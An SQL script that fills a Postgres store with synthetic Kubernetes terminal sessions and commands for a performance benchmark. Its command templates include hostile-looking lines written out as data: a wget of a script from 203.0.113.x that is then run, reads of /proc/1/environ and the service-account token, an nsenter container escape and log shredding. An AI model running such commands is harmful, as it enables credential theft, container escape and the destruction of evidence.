-- SPDX-License-Identifier: Apache-2.0
--
-- bench/pg_scale_gen.sql — a synthetic cluster store for bench/pg_scale.sh:
-- :nodes nodes (src node-01 …) shipping :sessions sessions and about
-- :commands commands in all, over six weeks, into the schema that
-- `kubetape ship --migrate` created (store/pg/pg_schema.c).  Run by psql
-- with -v nodes=N -v sessions=N -v commands=N.  Deterministic (setseed).
--
-- What it models (the shape the queries care about, not byte content):
--   * sessions: per node, ids 1.. in time order, starts spread evenly over
--     six weeks with jitter; durations 5 s .. 4 h (most short); the newest
--     two per node still active (state 0, end_us 0); 40 namespaces and 25
--     apps with a skewed popularity (a few hot namespaces, a long tail);
--     pod names as a Deployment makes them (app-<rs hash>-<5 chars>, the
--     ReplicaSet hash changing weekly); 90% with a tty; the cluster-wide
--     gid in start order (as concurrent shippers number them).
--   * commands: per session a skewed count (1 .. ~3x the mean), dense ids
--     per node in time order, timestamps inside the session; argv from 48
--     templates with a skewed popularity (ls, cat, ps … common; rm -rf,
--     wget of a script, reading /proc/1/environ rare) filled with the
--     session's namespace and app, words, numbers and random hex (so the
--     trigram index sees unique tokens, as with real paths and ids);
--     argv is the NUL-separated form of argv_text, as the node stores it.
-- Not modelled: chunks, keyframes, screen blocks (not read by `sessions`
-- or command search).
\set ON_ERROR_STOP 1
SELECT setseed(0.16);
SET maintenance_work_mem = '512MB';
SET synchronous_commit = off;

-- the indexes the migration made, kept to rebuild after the bulk load
-- (a GIN index filled row by row is many times slower than one built)
CREATE TEMP TABLE kt_gen_idx AS
  SELECT indexname, indexdef FROM pg_indexes
  WHERE schemaname = 'public' AND tablename IN ('sessions', 'commands')
    AND indexname NOT IN (SELECT conname FROM pg_constraint);
DO $$ DECLARE r record; BEGIN
  FOR r IN SELECT indexname FROM kt_gen_idx LOOP EXECUTE format('DROP INDEX %I', r.indexname); END LOOP;
END $$;
-- and the commands' key constraints, as the migration defined them (their
-- columns and INCLUDE lists are the schema's, not this file's)
CREATE TEMP TABLE kt_gen_con AS
  SELECT conname, pg_get_constraintdef(oid) AS def FROM pg_constraint
  WHERE conrelid = 'commands'::regclass AND contype IN ('p', 'u');
DO $$ DECLARE r record; BEGIN
  FOR r IN SELECT conname FROM kt_gen_con LOOP
    EXECUTE format('ALTER TABLE commands DROP CONSTRAINT %I', r.conname);
  END LOOP;
END $$;

CREATE TEMP TABLE ns AS
  SELECT row_number() OVER () - 1 AS i, n FROM unnest(ARRAY[
    'payments','default','checkout','kube-system','orders','search','auth','billing','monitoring',
    'ingress-nginx','cart','inventory','shipping','recommendations','ads','frontend','backend',
    'data-pipeline','ml-serving','logging','cert-manager','istio-system','argocd','vault',
    'postgres-operator','kafka','redis','elastic','batch-jobs','reporting','notifications',
    'user-profile','fraud-detection','gateway','legacy-erp','staging-payments','staging-checkout',
    'dev-alice','dev-bob','sandbox']) n;
CREATE TEMP TABLE app AS
  SELECT row_number() OVER () - 1 AS i, n FROM unnest(ARRAY[
    'api','web','worker','db','cache','queue','scheduler','gateway','auth-svc','ledger',
    'exporter','controller','proxy','consumer','producer','cron','migrator','indexer',
    'frontend','backend','payments-api','risk-engine','notifier','search-svc','debug']) n;

CREATE TEMP TABLE tmpl AS
  SELECT row_number() OVER () - 1 AS i, t FROM unnest(ARRAY[
    'ls -la', 'ls', 'cat /app/config/{app}.yaml', 'ps aux', 'env', 'bash', 'id', 'hostname',
    'top -b -n 1', 'df -h', 'tail -n {n} /var/log/{app}/{app}.log', 'grep -r {w} /app/config',
    'curl -s http://{app}.{ns}.svc.cluster.local:8080/healthz', 'vi /app/config/{app}.yaml',
    'python3 manage.py {w}', 'psql -h db.{ns}.svc -U app -c select-count-from-{w}',
    'kubectl get pods -n {ns}', 'cat /etc/resolv.conf', 'netstat -tlnp', 'uname -a',
    'whoami', 'sleep {n}', 'echo {w}', 'git log --oneline -n {n}', 'find / -name *.pem',
    'dig {app}.{ns}.svc.cluster.local', 'redis-cli -h redis.{ns} GET session:{h}',
    'java -jar /app/{app}.jar --spring.profiles.active=prod', 'node /app/server.js',
    'tar czf /tmp/backup-{n}.tgz /data/{app}', 'sed -i s/{w}/{h}/g /app/config/{app}.yaml',
    'openssl s_client -connect {app}.{ns}:443', 'nc -zv db.{ns} 5432',
    'apt-get install -y {w}', 'pip install {w}=={n}.0', 'mysql -u root -e show-databases',
    'cat /etc/passwd', 'rm -rf /tmp/{h}', 'rm -rf /var/cache/{app}', 'chmod +x /tmp/{h}.sh',
    'wget http://203.0.113.{n}/{h}.sh', 'sh /tmp/{h}.sh', 'cat /proc/1/environ',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'nsenter -t 1 -m -u -i -n sh',
    'base64 -d /tmp/{h}.b64', 'curl -s -X POST http://{app}.{ns}:8080/admin/{w}',
    'shred -u /var/log/{app}/{app}.log']) t;

CREATE TEMP TABLE words AS
  SELECT row_number() OVER () - 1 AS i, w FROM unnest(ARRAY[
    'migrate','shell','password','token','orders','users','refund','invoice','customer','secret',
    'flush','reindex','backfill','rollback','debug','timeout','retry','replica','vacuum','export',
    'import','purge','rotate','reset','balance','ledger','audit','report','session','cache']) w;

-- sessions
INSERT INTO sessions (src, id, uuid, kernel_id, start_us, end_us, state, has_exit, exit_status,
    node, k8s_namespace, pod, pod_uid, container, container_id, runtime, hostname, cgroup_id,
    pidns_ino, mntns_ino, leader_pid, leader_ns_pid, leader_uid, leader_comm, has_tty,
    tty_name, rows, cols, capture, bytes_out, bytes_in, n_commands, entry_flags)
SELECT src, id, md5(src || id)::uuid::text, id, start_us,
    CASE WHEN active THEN 0 ELSE start_us + dur END, CASE WHEN active THEN 0 ELSE 1 END,
    CASE WHEN active THEN 0 ELSE 1 END, CASE WHEN active OR r3 < 0.9 THEN 0 ELSE 130 END,
    src, ns.n, pod, md5(pod)::uuid::text, app.n, md5(pod || 'c'), 'containerd', pod,
    100000 + id, 4026531836 + id, 4026532000 + id, 10000 + id, 1, 0,
    CASE WHEN r3 < 0.8 THEN 'bash' ELSE 'sh' END, (r3 < 0.9)::int, '/dev/pts/' || (id % 8),
    CASE WHEN r3 < 0.9 THEN 40 ELSE 0 END, CASE WHEN r3 < 0.9 THEN 160 ELSE 0 END,
    'syscall', ncmd * 900, ncmd * 40, ncmd, 0
FROM (
  SELECT g.id, p.per, 'node-' || lpad(k::text, 2, '0') AS src,
    -- six weeks, id order = time order per node
    1761955200000000 + ((g.id - 1) * 3628800000000 / p.per) + (random() * (3628800000000 / p.per))::bigint AS start_us,
    (5e6 + power(random(), 3) * 14400e6)::bigint AS dur,
    g.id > p.per - 2 AS active, random() AS r3,
    -- skewed count, mean :commands / :sessions
    1 + floor(power(random(), 2) * (3 * :commands / :sessions - 2))::bigint AS ncmd,
    floor(power(random(), 2.2) * 40)::int AS nsi, floor(power(random(), 1.6) * 25)::int AS api
  FROM generate_series(1, :nodes) k,
       LATERAL (SELECT :sessions / :nodes AS per) p,
       LATERAL generate_series(1, p.per) g(id)) s
JOIN ns ON ns.i = s.nsi JOIN app ON app.i = s.api,
LATERAL (SELECT app.n || '-' || substr(md5(ns.n || app.n || ((s.start_us / 604800000000))::text), 1, 10)
    || '-' || substr(md5(ns.n || app.n || (s.start_us / 604800000000)::text || floor(s.r3 * 6)::text), 1, 5) AS pod) p
-- gid (identity) in start order: the shippers of a cluster ship sessions
-- as they start, so the server's numbering follows time across nodes
ORDER BY s.start_us;

-- commands: dense ids per node, time order
INSERT INTO commands (src, id, session_id, seq, ts_us, end_us, has_exit, exit_status, pid, ns_pid,
    ppid, uid, gid, euid, egid, comm, filename, argv, argc, argv_text, cwd)
SELECT c.src, c.base + c.seq + 1, c.sid, c.seq, c.ts, c.ts + 1000 + (random() * 2e6)::bigint, 1,
    CASE WHEN random() < 0.93 THEN 0 WHEN random() < 0.8 THEN 1 ELSE 127 END,
    20000 + c.seq, 20 + c.seq, 1, c.uid, c.uid, c.uid, c.uid,
    substr(split_part(a.t, ' ', 1), 1, 15), '/usr/bin/' || split_part(a.t, ' ', 1),
    decode(replace(replace(a.t, '\', '\\'), ' ', '\000'), 'escape'),
    array_length(string_to_array(a.t, ' '), 1), a.t, CASE WHEN c.seq % 3 = 0 THEN '/' ELSE '/app' END
FROM (
  SELECT s.src, s.id AS sid, s.k8s_namespace AS nsn, s.container AS appn, g.seq,
    coalesce(sum(s.n_commands) OVER (PARTITION BY s.src ORDER BY s.id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS base,
    s.start_us + (g.seq * (CASE WHEN s.end_us = 0 THEN 600e6 ELSE s.end_us - s.start_us END) / s.n_commands)::bigint AS ts,
    CASE WHEN s.id % 5 = 0 THEN 1000 ELSE 0 END AS uid,
    floor(power(random(), 2.5) * 48)::int AS ti, random() AS r,
    1 + floor(power(random(), 1.5) * 30)::int AS wi
  FROM sessions s, LATERAL generate_series(0, s.n_commands - 1) g(seq)) c
JOIN tmpl ON tmpl.i = c.ti CROSS JOIN (SELECT array_agg(w ORDER BY i) AS wa FROM words) wv,
LATERAL (SELECT replace(replace(replace(replace(replace(tmpl.t, '{ns}', c.nsn), '{app}', c.appn),
    '{n}', (1 + floor(c.r * 250))::text), '{w}', wv.wa[c.wi]),
    '{h}', substr(md5(c.src || c.sid || c.seq), 1, 12)) AS t) a;

UPDATE sessions s SET first_command = c.argv_text FROM commands c
  WHERE c.src = s.src AND c.session_id = s.id AND c.seq = 0;
-- the newest command of an active session is still running
UPDATE commands c SET end_us = 0, has_exit = 0, exit_status = 0 FROM sessions s
  WHERE s.state = 0 AND c.src = s.src AND c.session_id = s.id AND c.seq = s.n_commands - 1;
INSERT INTO kt_nodes (src, hwm_session) SELECT src, max(id) FROM sessions GROUP BY src;

DO $$ DECLARE r record; BEGIN
  FOR r IN SELECT conname, def FROM kt_gen_con LOOP
    EXECUTE format('ALTER TABLE commands ADD CONSTRAINT %I %s', r.conname, r.def);
  END LOOP;
END $$;
DO $$ DECLARE r record; BEGIN
  FOR r IN SELECT indexdef FROM kt_gen_idx LOOP EXECUTE r.indexdef; END LOOP;
END $$;
VACUUM ANALYZE sessions;
VACUUM ANALYZE commands;
